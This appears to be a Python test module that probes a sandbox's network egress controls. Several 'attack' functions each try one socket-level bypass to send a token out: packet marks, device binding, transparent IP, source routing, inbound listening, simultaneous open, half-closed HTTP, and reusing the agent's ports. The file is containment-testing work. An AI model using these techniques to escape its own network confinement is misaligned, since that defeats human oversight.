"""Options of a socket, and what it does beside calling out."""

import contextlib
import errno
import socket
import struct

from driver import attack

from sockets.ways import DGRAM, STREAM, exchange


@attack("so-mark")
def _(facts, token):
    with socket.socket(socket.AF_INET, STREAM) as sock:
        sock.settimeout(1)
        with contextlib.suppress(PermissionError):
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_MARK, 1)
        sock.connect((facts["v4"], facts["port"]))
        return exchange(sock, token)


@attack("bind-to-device")
def _(facts, token):
    with socket.socket(socket.AF_INET, STREAM) as sock:
        sock.settimeout(1)
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, facts["device"].encode() if facts["phase"] == "control" else b"lo")
        sock.connect((facts["v4"], facts["port"]))
        return exchange(sock, token)


@attack("ip-transparent")
def _(facts, token):
    with socket.socket(socket.AF_INET, STREAM) as sock:
        sock.settimeout(1)
        with contextlib.suppress(PermissionError):
            sock.setsockopt(socket.SOL_IP, 19, 1)
        sock.connect((facts["v4"], facts["port"]))
        return exchange(sock, token)


@attack("ip-options")
def _(facts, token):
    """A loose source route over the server itself."""
    route = struct.pack("!BBBB4s", 1, 131, 7, 4, socket.inet_aton(facts["v4"]))
    with socket.socket(socket.AF_INET, DGRAM) as sock:
        with contextlib.suppress(PermissionError):
            sock.setsockopt(socket.SOL_IP, socket.IP_OPTIONS, route)
        sock.sendto(token, (facts["v4"], facts["port"]))
        return "out"


@attack("listen")
def _(facts, token):
    """The outside calls in, and is told."""
    with socket.create_server(("0.0.0.0", facts["called"])) as listener:
        listener.settimeout(1.5)
        caller, _ = listener.accept()
        caller.sendall(token)
        return "out"


@attack("simultaneous-open")
def _(facts, token):
    """From the port that the outside calls, to the outside."""
    with socket.socket(socket.AF_INET, STREAM) as sock:
        sock.settimeout(1)
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        sock.bind(("0.0.0.0", facts["called"]))
        sock.connect((facts["v4"], facts["port"]))
        return exchange(sock, token)


@attack("half-close")
def _(facts, token):
    """A request whose sender has closed his half before it is judged."""
    with socket.socket(socket.AF_INET, STREAM) as sock:
        sock.settimeout(5 * facts["patience"])
        sock.connect(socket.getaddrinfo(facts["echo"], 80, socket.AF_INET, STREAM)[0][4])
        sock.sendall(b"GET /%s HTTP/1.0\r\nHost: %s\r\n\r\n" % (token, facts["echo"].encode()))
        sock.shutdown(socket.SHUT_WR)
        answer = sock.recv(4096)
        return "out" if b" 200 " in answer.split(b"\r\n")[0] else answer.split(b"\r\n")[0].decode() or "closed"


@attack("reuse-port")
def _(facts, token):
    """The agent's own ports, taken beside it on every spelling of here."""
    said = set()
    for address in ("0.0.0.0", "::", *facts["agent"]):
        for port in facts["agent_ports"]:
            with socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET, STREAM) as sock:
                for option in (socket.SO_REUSEADDR, socket.SO_REUSEPORT):
                    sock.setsockopt(socket.SOL_SOCKET, option, 1)
                try:
                    sock.bind((address, port))
                    said.add("out")
                except OSError as error:
                    said.add(errno.errorcode[error.errno])
    return "out" if "out" in said else "/".join(sorted(said))
